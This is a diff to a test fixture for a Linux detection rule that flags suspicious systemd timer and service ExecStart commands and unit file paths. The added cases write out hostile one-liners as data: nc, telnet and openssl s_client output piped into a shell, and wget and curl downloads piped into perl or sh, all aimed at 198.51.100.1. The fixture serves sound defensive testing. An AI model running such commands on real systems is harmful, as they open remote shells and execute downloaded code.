@@ -40,6 +40,12 @@ base {"event.category": "file", "event.action": "creation", "host.os.type": "lin
 + php-socket {"tocsin.unit.exec_start": "/usr/bin/php -r '$s=fsockopen(1);'"}
 + lua-socket {"tocsin.unit.exec_start": "/usr/bin/lua5.4 -e 'require(\"socket\")'"}
 + awk-inet {"tocsin.unit.exec_start": "/usr/bin/gawk 'BEGIN{s=\"/inet/tcp/0/198.51.100.1/1\"}'"}
++ nc-shell {"tocsin.unit.exec_start": "/bin/sh -c 'nc.openbsd 198.51.100.1 443 | /bin/sh'"}
++ openssl {"tocsin.unit.exec_start": "/bin/sh -c 'openssl s_client -quiet -connect 198.51.100.1:443 | tee /run/x'"}
++ telnet {"tocsin.unit.exec_start": "/bin/sh -c 'telnet 198.51.100.1 23 | sh'"}
++ wget-perl {"tocsin.unit.exec_start": "/bin/sh -c 'wget -O- http://198.51.100.1/a | perl5.36'"}
++ prefixes {"tocsin.unit.exec_start": "+!/usr/.x/y"}
++ prefixes-home {"tocsin.unit.exec_start": ":/root/.x"}
 + in-capitals {"tocsin.unit.exec_start": "/bin/sh -c 'CURL http://198.51.100.1 | SH'"}
 + second-command {"tocsin.unit.exec_start": ["/usr/bin/true", "/tmp/x"]}
 
@@ -52,6 +58,7 @@ base {"event.category": "file", "event.action": "creation", "host.os.type": "lin
 + user-unit {"file.path": "/home/u/.config/systemd/user/x.timer"}
 + run {"file.path": "/run/systemd/system/x.timer"}
 + transient {"file.path": "/run/systemd/transient/x.timer"}
++ run-user {"file.path": "/run/systemd/user/x.timer"}
 + drop-in {"file.path": "/etc/systemd/system/ssh.timer.d/override.conf"}
 
 # commands that services really have
